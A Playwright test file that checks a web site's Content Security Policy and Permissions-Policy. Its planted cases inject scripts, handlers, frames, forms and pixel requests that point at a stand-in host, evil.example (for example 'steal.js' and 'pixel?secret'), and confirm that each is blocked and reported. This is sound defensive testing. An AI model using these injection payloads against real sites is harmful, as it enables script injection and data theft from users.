/** The served policy against attacks by injected markup. */
import type { Frame, Page } from "playwright/test";
import { makeCertificate } from "../../lab/bench/wire/certificate.ts";
import type { RunningSite } from "../../fixtures/site/running-site.ts";
import { startTlsFront } from "../../fixtures/site/tls-front.ts";
import { expect, heroLink, METRICS_TOKEN, test } from "../fixtures.ts";

type Attacked = Window & { stolen?: string; violations?: string[] };

const PLANTED: [what: string, violation: string, plant: () => void][] = [
  [
    "an inline script",
    "script-src-elem inline",
    () => {
      const script = document.createElement("script");
      script.textContent = "window.stolen = 'inline'";
      document.body.append(script);
    },
  ],
  [
    "an event handler in markup",
    "script-src-attr inline",
    () => {
      document.body.insertAdjacentHTML("beforeend", `<p onclick="window.stolen = 'handler'">Click</p>`);
      document.querySelector<HTMLElement>("p[onclick]")?.click();
    },
  ],
  [
    "a script of another site",
    "script-src-elem https://evil.example/steal.js",
    () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/steal.js";
      document.body.append(script);
    },
  ],
  [
    "another script from Cal's own host",
    "script-src-elem http://127.0.0.1:4322/jsonp?callback=steal",
    () => {
      const script = document.createElement("script");
      script.src = "http://127.0.0.1:4322/jsonp?callback=steal";
      document.body.append(script);
    },
  ],
  [
    "code from a string",
    "script-src eval",
    () => {
      // In a separate task, because a test's own code is not subject to the page's policy.
      Reflect.apply(setTimeout, window, ["window.stolen = 'eval'"]);
    },
  ],
  [
    "a frame of another site",
    "frame-src https://evil.example",
    () => {
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/";
      document.body.append(frame);
    },
  ],
  [
    "a form that posts to another site",
    "form-action https://evil.example/",
    () => {
      document.body.insertAdjacentHTML("beforeend", `<form method="post" action="https://evil.example/"></form>`);
      document.querySelector<HTMLFormElement>("form[method=post]")?.submit();
    },
  ],
  [
    "another base address",
    "base-uri https://evil.example/",
    () => {
      document.head.insertAdjacentHTML("afterbegin", `<base href="https://evil.example/">`);
    },
  ],
  [
    "a javascript: link",
    "script-src-elem inline",
    () => {
      document.body.insertAdjacentHTML("beforeend", `<a href="javascript:window.stolen = 'link'" id="planted">Click</a>`);
      document.getElementById("planted")?.click();
    },
  ],
  ["a request to another site", "connect-src https://evil.example/", () => void fetch("https://evil.example/").catch(() => {})],
  [
    "a picture that leaks data",
    "img-src https://evil.example/pixel?secret",
    () => {
      new Image().src = "https://evil.example/pixel?secret";
    },
  ],
  [
    "a plug-in",
    "object-src https://evil.example",
    () => {
      document.body.insertAdjacentHTML("beforeend", `<object data="https://evil.example/"></object>`);
    },
  ],
  [
    "a worker",
    "worker-src blob",
    () => {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
      worker.addEventListener("message", () => ((window as Attacked).stolen = "worker"));
    },
  ],
];

for (const [what, violation, plant] of PLANTED) {
  test(`${what} is blocked`, async ({ page, site, complaints }) => {
    const came: string[] = [];
    page.on("response", (response) => came.push(new URL(response.url()).host));
    await watch(page);
    await page.goto("/");
    await page.evaluate(plant);
    await expect.poll(() => page.evaluate(() => (window as Attacked).violations)).toContain(violation);
    expect(await page.evaluate(() => [(window as Attacked).stolen, document.baseURI, location.href])).toEqual([undefined, `${site.origin}/`, `${site.origin}/`]);
    expect(came).not.toContain("evil.example");
    expect(complaints).not.toEqual([]);
    complaints.length = 0;
  });
}

test("a script injected into the booking's template is blocked, although the inline script moves it into the page", async ({ page, complaints }) => {
  await watch(page);
  await page.goto("/");
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.src = "https://evil.example/steal.js";
    document.querySelector<HTMLTemplateElement>("template[data-booking-hints]")?.content.append(script);
  });
  await heroLink(page).hover();
  await expect(page.locator('script[src*="evil.example"]')).toBeAttached();
  await expect.poll(() => page.evaluate(() => (window as Attacked).violations)).toContain("script-src-elem https://evil.example/steal.js");
  complaints.length = 0;
});

/** Cal's embed.js has created its frame like this since July 2025; the npm package's version is older. */
async function frameWithPayment(from: Page | Frame, url: string): Promise<Frame> {
  await from.evaluate((src) => document.body.append(Object.assign(document.createElement("iframe"), { src, allow: "payment", title: "Framed" })), url);
  const frames = "frames" in from ? () => from.frames() : () => from.childFrames();
  await expect.poll(() => frames().some((frame) => frame.url() === url)).toBe(true);
  const frame = frames().find((one) => one.url() === url);
  if (!frame) throw new Error(`There is no frame at ${url}.`);
  await frame.waitForLoadState();
  return frame;
}

/** Whether a document may request a payment (Apple Pay, Google Pay), according to the browser. */
function mayAskForPayment(frame: Frame): Promise<boolean> {
  return frame.evaluate(() => (document as unknown as { featurePolicy: { allowsFeature(name: string): boolean } }).featurePolicy.allowsFeature("payment"));
}

test("the calendar and the payment page that it frames may request a payment", async ({ page }) => {
  // Stripe's frames are inside Cal's. (The demo's own policy would block them.)
  for (const address of ["**/studio/30min/embed?*", "https://payments.example/"]) await page.route(address, (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Framed</title>" }));
  await page.goto("/");
  const origin = await page.locator("dialog[data-booking-dialog]").getAttribute("data-cal-origin");
  const calendar = await frameWithPayment(page, `${origin}/studio/30min/embed?embed=30min`);
  expect(await mayAskForPayment(calendar)).toBe(true);
  expect(await mayAskForPayment(await frameWithPayment(calendar, "https://payments.example/"))).toBe(true);
});

test("a frame of another site may not, even if it is allowed to be framed", async ({ page }) => {
  const permissions = (await page.request.get("/")).headers()["permissions-policy"] ?? "";
  await page.route("**/without-a-content-policy", (route) => route.fulfill({ contentType: "text/html", headers: { "permissions-policy": permissions }, body: "<!doctype html><title>Ours</title>" }));
  await page.route("https://stranger.example/", (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Stranger</title>" }));
  await page.goto("/without-a-content-policy");
  expect(await mayAskForPayment(await frameWithPayment(page, "https://stranger.example/"))).toBe(false);
});

test("reports with the newer directive are counted", async ({ site, pageInBrowserWith, complaints }) => {
  const certificate = makeCertificate(["localhost"]);
  // Such reports are only sent from https pages, after a minute unless they are flushed.
  const front = await startTlsFront(site.origin, certificate);
  const page = await pageInBrowserWith({ args: [`--ignore-certificate-errors-spki-list=${certificate.fingerprint}`, "--short-reporting-delay"] });
  await page.goto(`${front.origin}/about?name=ada`);
  await page.evaluate(plantScript, "https://newer.example/steal.js?name=ada");
  await expect.poll(() => countedToday(site)).toMatchObject({ "script-src-elem https://newer.example": 1 });
  // Before its server: the page may still be loading something.
  await page.close();
  complaints.length = 0;
  await front.close();
});

test("reports with only the older directive are counted", async ({ page, site, complaints }) => {
  await page.route("**/about*", async (route) => {
    const answer = await route.fetch();
    const headers = answer.headers();
    await route.fulfill({ response: answer, headers: { ...headers, "content-security-policy": headers["content-security-policy"]?.replace(/; report-to \w+/, "") ?? "" } });
  });
  await page.goto("/about?name=ada");
  await page.evaluate(plantScript, "https://older.example/steal.js?name=ada");
  await expect.poll(() => countedToday(site)).toMatchObject({ "script-src-elem https://older.example": 1 });
  complaints.length = 0;
});

function plantScript(address: string): void {
  const script = document.createElement("script");
  script.src = address;
  document.body.append(script);
}

async function countedToday(site: RunningSite): Promise<Record<string, number>> {
  const answer = await fetch(`${site.origin}/api/policy-reports`, { headers: { authorization: `Bearer ${METRICS_TOKEN}` } });
  return ((await answer.json()) as { today: Record<string, number> }).today;
}

async function watch(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const violations: string[] = ((window as Attacked).violations = []);
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => violations.push(`${effectiveDirective} ${blockedURI}`));
  });
}
